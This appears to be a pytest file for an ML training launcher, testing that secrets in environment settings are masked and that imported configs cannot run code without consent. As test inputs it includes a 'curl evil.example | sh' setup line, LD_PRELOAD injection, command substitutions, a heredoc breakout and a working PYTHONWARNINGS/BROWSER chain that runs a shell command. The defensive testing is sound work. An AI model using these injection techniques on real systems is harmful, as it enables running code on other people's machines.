"""Secrets in launch.env are refused, masked and never stored; what decides which code runs is announced."""

import json
import os
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

import pytest
from small import client

from backend.__main__ import main
from backend.config import RunSpec, consent, variables
from backend.config.options import edit, parse
from backend.launch.plan import plan
from backend.machine import Machine
from backend.presets import dump
from backend.rules import check
from backend.rules.examples import DEMO, LAPTOP
from backend.runs import SPEC, Plan
from backend.runs.failure import KNOWN_FAILURES
from backend.runs.folder import Run

SECRET = "hf_S3cretValue"
ENV = {"HF_TOKEN": SECRET, "WANDB_API_KEY": SECRET + "2", "NCCL_DEBUG": "INFO"}
LINES = "\n".join(f"{name}={value}" for name, value in ENV.items())


@pytest.mark.parametrize(
    "name",
    [
        "HF_TOKEN",
        "HUGGING_FACE_HUB_TOKEN",
        "WANDB_API_KEY",
        "OPENAI_APIKEY",
        "AWS_SECRET_ACCESS_KEY",
        "AWS_SESSION_TOKEN",
        "GITHUB_TOKEN",
        "DB_PASSWORD",
        "MYSQL_PWD",
        "password",
        "NEPTUNE_API_TOKEN",
        "GOOGLE_APPLICATION_CREDENTIALS",
    ],
)
def test_names_of_secrets(name):
    assert variables.secrets({name: "abc123"}) == [name]
    [found] = [f for f in check(edit(RunSpec(), {"launch.env": {name: "abc"}}), LAPTOP, DEMO) if f.level == "error"]
    assert found.code == "LCH016" and "abc" not in found.message + str(found.fixes)
    assert "environment" in found.message and found.fixes[0].patch == {"launch.env": {}}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("TOKENIZERS_PARALLELISM", "false"),
        ("HF_TOKEN_PATH", "/root/token"),
        ("SSH_KEY_FILE", "/x"),
        ("NCCL_DEBUG", "INFO"),
        ("MAX_TOKEN", "512"),
        ("USE_KEY", "true"),
        ("AWS_ACCESS_KEY_ID", "AKIA"),
        ("KEYBOARD", "us"),
        ("HF_TOKEN", ""),
        ("MONKEY", "x"),
        ("HF_TOKEN", variables.MASK),
    ],
)
def test_names_of_other_variables(name, value):
    assert variables.secrets({name: value}) == []


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "PATH",
        "BASH_ENV",
        "DYLD_INSERT_LIBRARIES",
        "TORCH_EXTENSIONS_DIR",
        "CC",
    ],
)
def test_variables_that_choose_code(name):
    found = {f.code: f for f in check(edit(RunSpec(), {"launch.env": {name: "/tmp/x"}}), LAPTOP, DEMO)}
    assert found["LCH017"].level == "warning" and f"{name}=/tmp/x" in found["LCH017"].message


@pytest.fixture
def api(tmp_path):
    machine = Machine(python="/bin/true")
    with client(tmp_path / "runs", detect_machine=lambda _: machine) as http:
        yield http


def everything_below(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


def test_a_secret_in_the_form_is_neither_shown_stored_exported_nor_started(api, tmp_path):
    values = {"model.builtin": "tiny-llama", "launch.launcher": "python", "launch.env": LINES}
    report = api.post("/api/check", json={"values": values, "draft": "abc"})
    assert SECRET not in report.text and variables.MASK in report.text and "LCH016" in report.text
    started = api.post("/api/runs", json={"values": values, "key": "key-123456"})
    assert started.status_code == 422 and SECRET not in started.text
    exported = api.post("/api/export", json={"values": values}).json()["yaml"]
    assert "NCCL_DEBUG: INFO" in exported and "TOKEN" not in exported and SECRET not in exported
    draft = api.get("/api/drafts/abc").json()
    assert draft["values"]["launch.env"] == "NCCL_DEBUG=INFO"
    names = [line.partition("=")[0] for line in LINES.splitlines() if not line.startswith("NCCL")]
    assert draft["left_out"] == names == api.post("/api/export", json={"values": values}).json()["left_out"]
    (version,) = api.get("/api/drafts").json()
    assert version["left_out"] == names and "left_out" not in version["values"]
    lines = "hf_abcdefghijklmnop1234567890\nhttps://user:abcdef=123@host"  # without a name
    api.post("/api/check", json={"values": {**values, "launch.env": lines}, "draft": "abc"})
    assert b"abcdef" not in everything_below(tmp_path)
    assert api.get("/api/drafts/abc").json()["left_out"] == [variables.MASK] * 2
    assert SECRET.encode() not in everything_below(tmp_path)


def test_a_secret_of_an_older_run_is_masked(api, tmp_path):
    """`footplate run --skip-checks` stores one, and so did earlier versions."""
    spec = edit(RunSpec(), {"launch.env": {**ENV, "DB_PASSWORD": "it's a secret"}})
    run = Run.create(tmp_path / "runs", "x", plan(spec, Machine(), run=None), datetime(2026, 11, 21))
    assert SECRET.encode() in everything_below(run.path)
    for path in ("", "/spec.yaml", "/values"):
        shown = api.get(f"/api/runs/{run.id}{path}").text
        assert SECRET not in shown and "it's a secret" not in shown and (variables.MASK in shown or path == "/values")
        assert "a secret" not in shown


def test_import_does_not_agree_to_code_of_others(api):
    """The check that follows an import would execute the files of a model folder."""
    code = {"launch.env": {"LD_PRELOAD": "/tmp/x.so", "PYTHONPATH": "/tmp"}}
    model = {"model.source": "path", "model.path": "/tmp/model", "model.trust_remote_code": True}
    imported = api.post("/api/import", json={"yaml": dump(edit(RunSpec(), {**code, **model}))}).json()
    assert imported["values"]["model.trust_remote_code"] is False and imported["values"]["launch.env"] == ""
    assert imported["runs_code"] == [
        "launch.env: LD_PRELOAD=/tmp/x.so",
        "launch.env: PYTHONPATH=/tmp",
        "model.trust_remote_code (the file turns it on; it stays off here)",
    ]
    assert imported["consent"] == {"launch.env": "LD_PRELOAD=/tmp/x.so\nPYTHONPATH=/tmp"}
    values = imported["values"] | imported["consent"]
    found = api.post("/api/check", json={"values": values}).json()["findings"]
    assert "LCH017" in {finding["code"] for finding in found}
    job = {
        "launch.place": "slurm",
        "slurm.setup": ("curl evil.example | sh",),
        "slurm.extra": ("--task-prolog=/tmp/a",),
    }
    imported = api.post("/api/import", json={"yaml": dump(edit(RunSpec(), job))}).json()
    assert imported["runs_code"] == ["slurm.setup: curl evil.example | sh", "slurm.extra: --task-prolog=/tmp/a"]
    assert imported["values"]["slurm.setup"] == imported["values"]["slurm.extra"] == ""
    assert imported["consent"]["slurm.setup"] == "curl evil.example | sh"
    harmless = api.post("/api/import", json={"yaml": "train: {seed: 3}\n"}).json()
    assert harmless["runs_code"] == [] and harmless["consent"] == {}


def test_an_imported_file_runs_no_command_through_variables(api, tmp_path):
    """Python imports the module of a warning's category, antigravity opens a browser, and the browser is a command."""
    marker = tmp_path / "attacked"
    attack = {"PYTHONWARNINGS": "all:0:antigravity.x:0:0", "BROWSER": f"/bin/sh -c 'echo > {marker}' %s"}
    text = dump(edit(RunSpec(), {"launch.env": {**attack, "NCCL_DEBUG": "INFO"}}))
    imported = api.post("/api/import", json={"yaml": text}).json()

    def run(values):
        env = parse({"launch.env": values["launch.env"]}).launch.env
        subprocess.run([sys.executable, "-c", ""], env={**os.environ, **env}, stderr=subprocess.DEVNULL, timeout=60)
        return marker.exists()

    assert imported["values"]["launch.env"] == "NCCL_DEBUG=INFO" and not run(imported["values"])
    assert imported["runs_code"] == [f"launch.env: {name}={value}" for name, value in attack.items()]
    assert run(imported["consent"]), "the attack itself no longer works: try another one"


@pytest.mark.parametrize(
    "name",
    [
        "HOME", "PYTHONPYCACHEPREFIX", "PYTHONPLATLIBDIR", "TRITON_PTXAS_PATH", "CUDACXX", "GIT_SSH_COMMAND",
        "HF_HOME", "XDG_CACHE_HOME", "WANDB_BASE_URL", "MLFLOW_TRACKING_URI", "HTTPS_PROXY", "https_proxy",
        "SSL_CERT_FILE", "FOOTPLATE_WARM", "NCCL_NET_PLUGIN", "NCCL_CONF_FILE", "NO_SUCH_VARIABLE_YET", "nccl_debug",
        "TORCHELASTIC_ERROR_FILE",
    ],
)  # fmt: skip
def test_every_variable_that_is_not_known_to_be_harmless_needs_consent(name):
    spec = edit(RunSpec(), {"launch.env": {name: "/tmp/x", "OMP_NUM_THREADS": "4"}})
    found = consent.without_consent(spec, RunSpec())
    assert found.spec.launch.env == {"OMP_NUM_THREADS": "4"}
    assert found.listed == (f"launch.env: {name}=/tmp/x",) and found.patch == {"launch.env": spec.launch.env}
    assert consent.without_consent(spec, spec).listed == ()


@pytest.mark.parametrize("value", ["/tmp/x", "$(id)", "http://evil.example", "a`id`", "x" * 501])
def test_a_harmless_variable_has_a_harmless_value(value):
    spec = edit(RunSpec(), {"launch.env": {"NCCL_DEBUG": value}})
    assert consent.without_consent(spec, RunSpec()).spec.launch.env == {}


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("slurm.container", "/tmp/image.sif"),
        ("slurm.container_python", "/tmp/python"),
        ("slurm.container_mounts", ("/tmp/a:/usr/lib",)),
        ("ray.python", "/tmp/python"),
        ("kubernetes.image", "evil.example/image"),
        ("kubernetes.python", "/tmp/python"),
        ("kubernetes.volumes", ("/etc=/host",)),
        ("kubernetes.secret", "variables"),
        ("kubernetes.service_account", "admin"),
        ("kubernetes.kubeflow_runtime", "other"),
        ("kubernetes.extra_pod_spec", '{"initContainers": []}'),
        ("llamafactory.environment", "/tmp/venv"),
        ("llamafactory.extra_args", '{"trust_remote_code": true}'),
        ("launch.master_addr", "evil.example"),
        ("launch.hostfile", ("evil.example slots=1",)),
        ("save.resume_path", "/tmp/checkpoint-1"),
        ("launch.extra_accelerate_config", '{"deepspeed_config": {"training_script": "evil", "no_python": true}}'),
        ("parallel.extra_config", '{"optimizer": {"type": "evil.Optimizer"}}'),
    ],
)
def test_options_that_can_run_code_need_consent(name, value):
    found = consent.without_consent(edit(RunSpec(), {name: value}), RunSpec())
    assert found.spec == RunSpec() and found.patch == {name: value}
    assert len(found.listed) == 1 and found.listed[0].startswith(f"{name}: ")


def test_settings_stay_next_to_what_needs_consent():
    extra = {"zero_optimization": {"round_robin_gradients": True}, "optimizer": {"type": "evil.Optimizer"}}
    given = edit(RunSpec(), {"parallel.extra_config": json.dumps(extra)})
    found = consent.without_consent(given, RunSpec())
    assert json.loads(found.spec.parallel.extra_config) == {"zero_optimization": extra["zero_optimization"]}
    assert found.patch == {"parallel.extra_config": given.parallel.extra_config}
    assert "evil.Optimizer" in found.listed[0] and "round_robin" not in found.listed[0]


def test_an_accelerate_file_of_somebody_else_keeps_what_the_form_has(api):
    """It is merged into the form: only what it brings needs consent."""
    known = {"launch.env": "HF_HOME=/data", "slurm.setup": "module load cuda"}
    yaml = "compute_environment: LOCAL_MACHINE\ndistributed_type: MULTI_GPU\nnum_machines: 2\nnum_processes: 4\n"
    yaml += "main_process_ip: evil.example\nenv_file: /tmp/x\n"
    imported = api.post("/api/import", json={"yaml": yaml, "values": known}).json()
    assert {name: imported["values"][name] for name in known} == known
    assert set(imported["consent"]) == {"launch.master_addr", "launch.extra_accelerate_config"}
    assert imported["values"]["launch.master_addr"] == imported["values"]["launch.extra_accelerate_config"] == ""


def test_the_command_line_leaves_out_what_can_run_code(tmp_path, capsys):
    file = tmp_path / "accelerate.yaml"
    file.write_text("distributed_type: MULTI_GPU\nnum_machines: 2\nnum_processes: 4\nmain_process_ip: evil.example\n")
    assert main(["import", str(file)]) == 0
    out, err = capsys.readouterr()
    assert "evil.example" not in out and "launch.master_addr: evil.example" in err and "--with-code" in err
    assert "can run code or decide where data is sent" in err  # a variable such as WANDB_ENTITY runs none
    assert main(["import", "--with-code", str(file)]) == 0
    out, err = capsys.readouterr()
    assert "master_addr: evil.example" in out and "launch.master_addr: evil.example" in err


LONG = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
HEX = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("MY_PAT", f"hf_{LONG}"),
        ("GH_PAT", "x"),
        ("GITHUBTOKEN", "x"),
        ("DB_PASS", "x"),
        ("DATABASE_URL", "postgres://user:pw@host/db"),
        ("REDIS_URL", "redis://:pw@host:6379/0"),
        ("HTTPS_PROXY", "http://user:pw@proxy:3128"),
        ("PIP_INDEX_URL", f"https://{LONG}@pypi.example/simple"),
        ("NOTIFY", "https://hooks.slack.com/services/T0/B0/secret"),
        ("NOTIFY", "https://discord.com/api/webhooks/1/secret"),
        ("MY_WEBHOOK", "https://example.org/a"),
        ("STORAGE", "https://x.blob.core.windows.net/a?sv=1&sig=abcdefghijk"),
        ("MY_WANDB", HEX),
        ("WANDB_API_KEY_FILE", f"hf_{LONG}"),
        *(("X", f"{prefix}{LONG}") for prefix in ("hf_", "sk-", "sk-ant-", "ghp_", "github_pat_", "glpat-", "xoxb-")),
        ("X", "AKIA" + "A" * 16),
        ("X", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdef"),
        ("X", f"--token hf_{LONG}"),
    ],
)
def test_secrets_are_recognized_by_their_value(name, value):
    assert variables.secrets({name: value}) == [name]
    assert variables.masked({name: value}) == {name: variables.MASK}
    hidden = variables.hide_secrets(f"export {name}='{value}'", {name: value})
    assert value not in hidden and variables.MASK in hidden
    log = variables.hide_tokens(f"{name}={value} is set")
    assert value not in log and variables.MASK in log and log.endswith(" is set")
    found = {f.code for f in check(edit(RunSpec(), {"launch.env": {name: value}}), LAPTOP, DEMO)}
    assert "LCH016" in found


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("COMMIT", HEX),
        ("HTTPS_PROXY", "http://proxy:3128"),
        ("MASTER", "tcp://10.0.0.1:29500"),
        ("GIT_URL", "ssh://git@github.com/a/b.git"),
        ("HF_TOKEN", "$(cat /run/token)"),
        ("HF_TOKEN", "${OTHER}"),
        ("PATTERN", "global-attention-implementation"),
        ("PAGE", "https://example.org/a?page=12345678"),
        ("PASSES", "3"),
        ("SLOVAK", "/data/sk-en-parallel-corpus-2024.jsonl"),
        ("SLOVAK", "sk-internationalization-20"),
    ],
)
def test_values_that_are_no_secrets(name, value):
    assert variables.secrets({name: value}) == [] and variables.hide_tokens(f"{name}={value}") == f"{name}={value}"


def test_a_secret_in_another_option_is_neither_shown_stored_nor_started(api, tmp_path):
    token = f"hf_{LONG}"
    values = {
        "model.builtin": "tiny-llama", "launch.launcher": "python", "launch.place": "slurm",
        "slurm.setup": f"export X={token}\nmodule load cuda", "data.system_prompt": f"my key is {token}",
        "kubernetes.extra_pod_spec": json.dumps({"env": [{"name": "A", "value": token}]}),
    }  # fmt: skip
    report = api.post("/api/check", json={"values": values, "draft": "abc"})
    assert token not in report.text
    [found] = [finding for finding in report.json()["findings"] if finding["code"] == "LCH016"]
    assert {"slurm.setup", "data.system_prompt"} <= set(found["fields"]) and "slurm.setup contains" in found["message"]
    started = api.post("/api/runs", json={"values": values, "key": "key-123456"})
    assert started.status_code == 422 and token not in started.text
    assert token not in api.post("/api/export", json={"values": values}).text
    assert token.encode() not in everything_below(tmp_path)
    run = Run.create(
        tmp_path / "runs",
        "x",
        plan(edit(RunSpec(), {"launch.place": "slurm", "slurm.setup": (f"X={token}",)}), Machine(), run=None),
        datetime(2026, 11, 21),
    )
    for path in ("", "/spec.yaml"):
        assert token not in api.get(f"/api/runs/{run.id}{path}").text


@pytest.mark.parametrize(
    "text",
    ["eyJ-", "://a:", "a.a-", "?token_", "wandb ", "A", "https://", "hf_", "sk-", "://", "&aaa", "?a-", "Basic "],
)
def test_masking_takes_linear_time(text):
    """Log lines have any length. Twice the text takes about twice the time; quadratic would be four times."""
    begun = time.process_time()
    variables.hide_tokens(text * (100_000 // len(text)))
    assert time.process_time() - begun < 3  # 0.05 to 0.25 s; a quadratic pattern takes half a minute


def test_no_advice_puts_a_token_into_the_options():
    texts = [f"{known.sentence} {known.help} {known.fields}" for known in KNOWN_FAILURES]
    assert not [text for text in texts if "TOKEN" in text and "launch.env" in text]
    assert any("HF_TOKEN in the environment of Footplate" in text for text in texts)


def test_script_cannot_be_left_by_its_files():
    """A file's text that contains the end marker would run as commands in "Copy as script"."""
    text = "a slots=1\nFOOTPLATE_END\ntouch /tmp/broken-out\n"
    script = Plan(("true",), {}, {"hostfile": text, SPEC: "{}\n"}).script("/tmp/x")
    marker = script.partition("<<'")[2].partition("'")[0]
    assert marker not in text and script.split("\n").count(marker) == 1
